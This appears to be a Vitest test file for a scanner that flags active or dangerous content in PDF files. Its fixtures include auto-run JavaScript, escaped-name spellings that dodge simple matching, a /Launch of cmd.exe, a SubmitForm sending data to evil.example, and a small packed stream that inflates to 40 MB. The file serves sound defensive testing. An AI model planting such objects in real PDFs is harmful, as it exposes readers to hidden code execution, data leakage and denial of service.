import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { activeContentOf } from './active-content.ts';

const CATALOG = '<< /Type /Catalog /Pages 2 0 R >>';
const file = (...objects: string[]) =>
  Buffer.from(
    `%PDF-1.7\n${objects.map((object, at) => `${at + 1} 0 obj\n${object}\nendobj\n`).join('')}`,
    'latin1',
  );

/** The objects of numbers 11, 12, … in one stream, packed as `dictionary` says. */
function packed(objects: string[], dictionary = '/Filter /FlateDecode', pack = deflateSync): Buffer {
  let at = 0;
  const pairs = objects.map((object, index) => {
    const pair = `${index + 11} ${at}`;
    at += object.length + 1;
    return pair;
  });
  const head = `${pairs.join(' ')}\n`;
  const bytes = pack(Buffer.from(`${head}${objects.join('\n')}`));
  const about = `/Type /ObjStm /N ${objects.length} /First ${head.length} /Length ${bytes.length} ${dictionary}`;
  return Buffer.concat([
    Buffer.from(`%PDF-1.7\n4 0 obj\n<< ${about} >>\nstream\r\n`),
    bytes,
    Buffer.from('\nendstream\nendobj\n'),
  ]);
}

describe('a PDF', () => {
  it.each([
    ['a script when it opens', '<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>'],
    ['a script in its names', '<< /Names << /JavaScript 5 0 R >> >>'],
    ['a script with an escaped name', '<< /S /J#61vaScript /JS (x) >>'],
    ['a script spelt all in escapes', '<< /S /#4a#61#76#61#53#63#72#69#70#74 >>'],
    ['a program', '<< /S/Launch/F(cmd.exe) >>'],
    ['an attached file', '<< /Type /EmbeddedFile >>'],
    ['attached files in its names', '<< /Names << /EmbeddedFiles 5 0 R >> >>'],
    ['a form that sends itself', '<< /S /SubmitForm /F (https://evil.example) >>'],
    ['a form of scripts', '<< /AcroForm << /XFA 7 0 R >> >>'],
    ['a film', '<< /Subtype /RichMedia >>'],
    ['an address that opens by itself', '<< /OpenAction << /S /URI /URI (https://evil.example) >> >>'],
    ['an action that nobody can find', '<< /OpenAction 99 0 R >>'],
    ['an action that goes on with another', '<< /OpenAction << /S /GoTo /D [3 0 R] /Next 8 0 R >> >>'],
  ])('with %s is active', async (_, object) => {
    expect(await activeContentOf(file(object))).toBe('active');
    expect(await activeContentOf(packed([CATALOG, object]))).toBe('active');
  });

  it.each([
    ['nothing but pages', CATALOG],
    ['a link that waits for a click', '<< /A << /S /URI /URI (https://canopy.example) >> >>'],
    ['a place to open at', '<< /OpenAction [3 0 R /Fit] >>'],
    ['a step to a place', '<< /OpenAction << /S /GoTo /D [3 0 R /Fit] >> >>'],
    ['names that only begin alike', '<< /LaunchPad 1 /JavaScripts 2 /XFAct 3 >>'],
    ['an escape of what cannot stand in a name', '<< /BaseFont /Noto#20Sans >>'],
    ['words of a text', '(JavaScript Launch EmbeddedFile)'],
  ])('with %s is not', async (_, object) => {
    expect(await activeContentOf(file(object))).toBe('none');
    expect(await activeContentOf(packed([CATALOG, object]))).toBe('none');
  });

  it('opens where another object says, packed or not', async () => {
    const goTo = '<< /S /GoTo /D [3 0 R] >>';
    const opens = '<< /OpenAction 2 0 R >>';
    expect(await activeContentOf(file(opens, goTo))).toBe('none');
    expect(await activeContentOf(file(opens, '<< /S /URI /URI (https://evil.example) >>'))).toBe('active');
    expect(await activeContentOf(packed(['<< /OpenAction 12 0 R >>', goTo]))).toBe('none');
    expect(await activeContentOf(packed(['<< /OpenAction 12 0 R >>', '<< /S /URI >>']))).toBe('active');
    // The later of two objects with one number is the one that readers take.
    const twice = Buffer.concat([file(opens, goTo), Buffer.from('2 0 obj\n<< /S /URI >>\nendobj\n')]);
    expect(await activeContentOf(twice)).toBe('active');
  });

  it('whose objects cannot be unpacked within bounds counts as unreadable', async () => {
    const bomb = packed(['x'.repeat(40 * 1024 * 1024)]);
    expect(bomb.length).toBeLessThan(100_000);
    expect(await activeContentOf(bomb)).toBe('unreadable');
    expect(await activeContentOf(packed([CATALOG], '/Filter /LZWDecode'))).toBe('unreadable');
    expect(await activeContentOf(packed([CATALOG], '/Filter [/ASCII85Decode /FlateDecode]'))).toBe(
      'unreadable',
    );
    const plain = (bytes: Buffer) => bytes;
    expect(await activeContentOf(packed([CATALOG], '', plain as never))).toBe('none');
    expect(await activeContentOf(packed([CATALOG], '/Filter /FlateDecode', plain as never))).toBe(
      'unreadable',
    );
  });

  it('of ten megabytes is looked through in a moment', async () => {
    const noise = Buffer.alloc(10 * 1024 * 1024);
    let seed = 7;
    for (let at = 0; at < noise.length; at += 1) {
      seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
      noise[at] = seed >> 16;
    }
    const started = performance.now();
    expect(await activeContentOf(Buffer.concat([file(CATALOG), noise]))).toBe('none');
    expect(performance.now() - started).toBeLessThan(2_000);
  });
});
